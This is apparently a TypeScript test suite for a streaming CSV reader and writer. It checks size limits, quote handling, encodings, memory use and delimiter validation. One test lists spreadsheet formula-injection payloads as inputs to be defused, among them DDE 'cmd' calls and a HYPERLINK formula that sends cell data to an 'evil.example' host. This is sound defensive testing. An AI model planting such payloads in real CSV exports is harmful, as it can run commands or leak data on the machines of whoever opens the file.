import assert from 'node:assert/strict';
import { test } from 'node:test';
import { defuseFormula } from './defuse-formula.ts';
import { allBytes, allRows, encode, inChunks } from './fixture.ts';
import { readCsv } from './read-csv.ts';
import { cellBytesMax, columnsMax, type Encoding, rowBytesMax } from './row.ts';
import { writeCsv } from './write-csv.ts';

const form = { encoding: 'utf-8', delimiter: ';' } as const;
const read = (text: string, chunkBytes = 50_000) => allRows(readCsv(inChunks(Buffer.from(text), chunkBytes), form));
const refusedWith = (code: string, line: number) => (error: { code?: string; details?: { line?: number } }) => {
  assert.deepEqual([error.code, error.details?.line], [code, line]);
  return true;
};

test('columns: 1 000 pass, 1 001 and 10 000 do not', async () => {
  const columns = (count: number) => `a\n${Array.from({ length: count }, (_, i) => `c${i}`).join(';')}\n`;
  assert.equal((await read(columns(columnsMax)))[1]!.cells.length, columnsMax);
  await assert.rejects(read(columns(columnsMax + 1)), refusedWith('import.too_many_columns', 2));
  await assert.rejects(read(columns(10_000)), refusedWith('import.too_many_columns', 2));
});

test('a cell: 64 KiB pass, one byte more does not, quoted or not', async () => {
  for (const quote of ['', '"']) {
    const cell = (bytes: number) => `a;b\nx;${quote}${'я'.repeat(bytes / 2)}${bytes % 2 ? 'z' : ''}${quote};y\n`;
    assert.equal(Buffer.byteLength((await read(cell(cellBytesMax)))[1]!.cells[1]!), cellBytesMax);
    await assert.rejects(read(cell(cellBytesMax + 1)), refusedWith('import.cell_too_long', 2));
  }
});

test('a row: 1 MiB passes, one byte more does not', async () => {
  const row = (bytes: number) =>
    `a\n${`${'x'.repeat(65_535)};`.repeat(16).slice(0, bytes - 2)};y${'z'.repeat(Math.max(0, bytes - rowBytesMax))}\n`;
  assert.equal((await read(row(rowBytesMax))).length, 2);
  await assert.rejects(read(row(rowBytesMax + 1)), refusedWith('import.row_too_long', 2));
});

test('of two limits the one passed first is named, however the file is cut', async () => {
  const row = `${`${'x'.repeat(65_000)};`.repeat(16)}${'y'.repeat(200_000)};z\n`;
  for (const chunkBytes of [1000, 64 * 1024, 2_000_000]) {
    await assert.rejects(read(row, chunkBytes), refusedWith('import.row_too_long', 1));
    await assert.rejects(read(row.slice(65_001), chunkBytes), refusedWith('import.cell_too_long', 1));
  }
});

test('an unclosed quote is named with its line, and the rows before it are not lost', async () => {
  const seen: number[] = [];
  const reading = async () => {
    for await (const batch of readCsv(inChunks(Buffer.from('a;b\n1;2\n3;"4\n5;6\n')), form))
      for (const row of batch) seen.push(row.line);
  };
  await assert.rejects(reading, refusedWith('import.quote_unterminated', 3));
  assert.deepEqual(seen, [1, 2]);
});

test('a quote that swallows the file stops at the limit of a cell and says that quotes are the matter', async () => {
  const reading = read(`a;b\n1;"2\n${'3;4\n'.repeat(30_000)}`);
  await assert.rejects(reading, (error: { code?: string; details?: unknown }) => {
    assert.equal(error.code, 'import.cell_too_long');
    assert.deepEqual(error.details, { line: 2, maxBytes: cellBytesMax, quoted: true });
    return true;
  });
});

test('one line without an end is refused after about a mebibyte, whatever it is made of', async () => {
  const patterns = ['x', ';', '"', '""', 'x;', `${'y'.repeat(2000)};`, ' \u0000'];
  for (const pattern of patterns) {
    for (const encoding of ['utf-8', 'windows-1251', 'utf-16le', 'utf-16be'] satisfies Encoding[]) {
      let served = 0;
      const endless = async function* () {
        const chunk = encode(pattern.repeat(Math.ceil(65_536 / pattern.length)), encoding);
        for (; served < 64 * 1024 * 1024; served += chunk.length) yield chunk;
      };
      await assert.rejects(
        allRows(readCsv(endless(), { encoding, delimiter: ';' })),
        /import\.(too_many|cell_too|row_too)/,
      );
      assert.ok(served <= 2 * rowBytesMax, `${pattern.slice(0, 5)} ${encoding} ${served}`);
    }
  }
});

test('64 MB of rows pass through in memory that does not follow the file', async () => {
  const chunk = Buffer.from('Шевченко;Тарас;+380500000000;"примітка ""довга"""\r\n'.repeat(1000));
  let served = 0;
  const source = async function* () {
    for (; served < 64 * 1024 * 1024; served += chunk.length) yield chunk;
  };
  const before = process.memoryUsage().rss;
  let rows = 0;
  let peak = before;
  for await (const batch of readCsv(source(), form)) {
    rows += batch.length;
    if (rows % 50_000 < 500) peak = Math.max(peak, process.memoryUsage().rss);
  }
  assert.equal(rows, (served / chunk.length) * 1000);
  assert.ok(peak - before < 150 * 1024 * 1024, `grew by ${Math.round((peak - before) / 1e6)} MB`);
});

test('a wrong encoding gives replacement characters, not a crash and not another shape', async () => {
  const bytes = encode('Прізвище;Ім’я\r\nҐудзь;Їжак\r\n', 'windows-1251');
  const rows = await allRows(readCsv(inChunks(bytes), form));
  assert.deepEqual(
    rows.map(({ cells }) => cells.length),
    [2, 2],
  );
  assert.match(rows[1]!.cells[0]!, /\ufffd/);
  const odd = await allRows(readCsv(inChunks(Buffer.from('abc;d\n')), { encoding: 'utf-16le', delimiter: ';' }));
  assert.equal(odd.length, 1);
});

test('cells that a spreadsheet would run are defused', () => {
  for (const attack of [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '=HYPERLINK("http://evil.example?x="&A1)',
    '+380500000001=1',
    '+3805000000011234567',
    '+0',
    '-',
  ]) {
    assert.equal(defuseFormula(attack)[0], "'", attack);
  }
});

test('a formula hidden behind a delimiter of another country is defused too', async () => {
  const text = (await allBytes(writeCsv([['Іван', 'x,=1+1', 'a|@b', 'y;=2', 'z\t=3']]))).toString();
  for (const delimiter of [',', ';', '\t', '|', '\n']) {
    for (const cell of text.split(delimiter))
      assert.doesNotMatch(cell, /^"?[=@]/, `split by ${JSON.stringify(delimiter)}`);
  }
});

test('phones, names and lists stay readable', () => {
  for (const plain of [
    '+380500000001',
    '+14155550100',
    'Шевченко',
    'a@b.example',
    'a - b',
    '2+2',
    '+380500000001,+380500000002',
    'так;\n- пункт',
  ]) {
    assert.equal(defuseFormula(plain), plain);
  }
});

test('a delimiter that would cut letters or quotes is refused', async () => {
  for (const delimiter of ['', '"', '\n', '\r', '§', 'щ', ';;', '\u0000']) {
    const reading = allRows(readCsv(inChunks(Buffer.from('a;b')), { encoding: 'utf-8', delimiter }));
    await assert.rejects(reading, { code: 'request.invalid', field: 'delimiter' }, JSON.stringify(delimiter));
  }
});
